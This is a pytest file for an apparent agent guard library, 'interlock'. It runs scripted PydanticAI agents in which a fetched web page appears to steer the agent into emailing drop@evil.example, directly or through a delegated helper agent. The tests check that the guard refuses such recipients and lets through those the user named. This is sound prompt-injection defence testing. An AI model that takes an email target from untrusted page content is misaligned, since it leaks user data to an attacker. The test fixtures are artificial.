"""PydanticAI records the instructions, the system prompt and the user's prompt as
trusted inputs (a real ``Agent`` loop with :class:`InterlockCapability`, a scripted
``FunctionModel``, real tools): the provenance pair of :mod:`.provenance`."""

from __future__ import annotations

import pytest

pytest.importorskip("pydantic_ai")

import asyncio
from typing import Any

from pydantic_ai import Agent
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart
from pydantic_ai.models.function import AgentInfo, FunctionModel

from interlock import Guard
from interlock.adapters.pydantic_ai import InterlockCapability
from interlock.policy import load_policy_text

from .provenance import CASES, PAGE, SYSTEM, guarded, trusted_inputs


def _agent(guard: Guard, to: str, ran: list[str], *, instructions: bool) -> Agent[None, str]:
    turns = [
        ModelResponse(parts=[ToolCallPart("fetch_url", {"url": "https://blog.example"}, "c1")]),
        ModelResponse(parts=[ToolCallPart("send_email", {"to": to, "body": "hi"}, "c2")]),
        ModelResponse(parts=[TextPart("done")]),
    ]

    def answer(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        return turns.pop(0)

    prompt: dict[str, Any] = {"instructions" if instructions else "system_prompt": SYSTEM}
    agent: Agent[None, str] = Agent(
        FunctionModel(answer), capabilities=[InterlockCapability(guard)], **prompt
    )

    @agent.tool_plain
    def fetch_url(url: str) -> str:
        """Fetch a page."""
        ran.append("fetch_url")
        return PAGE

    @agent.tool_plain
    def send_email(to: str, body: str) -> str:
        """Send a mail."""
        ran.append(f"send_email:{to}")
        return "sent"

    return agent


@pytest.mark.parametrize("mode", ["sync", "async"])
@pytest.mark.parametrize("instructions", [True, False])
@pytest.mark.parametrize(("to", "request_text", "sent"), CASES)
def test_a_page_recipient_is_refused_and_the_users_own_passes(
    mode: str, instructions: bool, to: str, request_text: str, sent: bool
) -> None:
    guard, history = guarded("pa-1")
    ran: list[str] = []
    agent = _agent(guard, to, ran, instructions=instructions)
    if mode == "async":
        asyncio.run(agent.run(request_text))
    else:
        agent.run_sync(request_text)
    assert "fetch_url" in ran
    assert (f"send_email:{to}" in ran) is sent
    assert trusted_inputs(history, "pa-1") == 2  # system + user, each once over 3 requests


@pytest.mark.parametrize(
    ("request_text", "sent"),
    [("summarise https://blog.example", False), ("mail drop@evil.example a summary", True)],
)
def test_an_agent_a_tool_delegates_to_gets_the_models_words_not_the_users(
    request_text: str, sent: bool
) -> None:
    """PydanticAI's agent delegation: a tool runs another agent with a prompt the
    calling model wrote, after it read the page."""
    guard, history = guarded("pa-2")
    ran: list[str] = []
    helper = _agent(guard, "drop@evil.example", ran, instructions=True)
    helper_turns = [
        ModelResponse(
            parts=[ToolCallPart("send_email", {"to": "drop@evil.example", "body": "hi"}, "h1")]
        ),
        ModelResponse(parts=[TextPart("ok")]),
    ]
    helper_model = FunctionModel(lambda messages, info: helper_turns.pop(0))
    parent_turns = [
        ModelResponse(parts=[ToolCallPart("fetch_url", {"url": "https://blog.example"}, "p1")]),
        ModelResponse(parts=[ToolCallPart("mailer", {"task": "mail drop@evil.example"}, "p2")]),
        ModelResponse(parts=[TextPart("done")]),
    ]
    parent: Agent[None, str] = Agent(
        FunctionModel(lambda messages, info: parent_turns.pop(0)),
        capabilities=[InterlockCapability(guard)],
        instructions=SYSTEM,
    )

    @parent.tool_plain
    def fetch_url(url: str) -> str:
        """Fetch a page."""
        ran.append("fetch_url")
        return PAGE

    @parent.tool_plain
    async def mailer(task: str) -> str:
        """Ask the mailer agent."""
        return (await helper.run(task, model=helper_model)).output

    parent.run_sync(request_text)
    assert "fetch_url" in ran
    assert ("send_email:drop@evil.example" in ran) is sent
    assert trusted_inputs(history, "pa-2") == 2  # the parent's: nothing of the helper's run


def test_a_guard_without_sessions_records_nothing() -> None:
    guard = Guard(load_policy_text("version: 1\ndefault: allow\n"))
    ran: list[str] = []
    _agent(guard, "alice@corp.example", ran, instructions=False).run_sync("mail alice")
    assert ran == ["fetch_url", "send_email:alice@corp.example"]
    assert guard.sessions is None
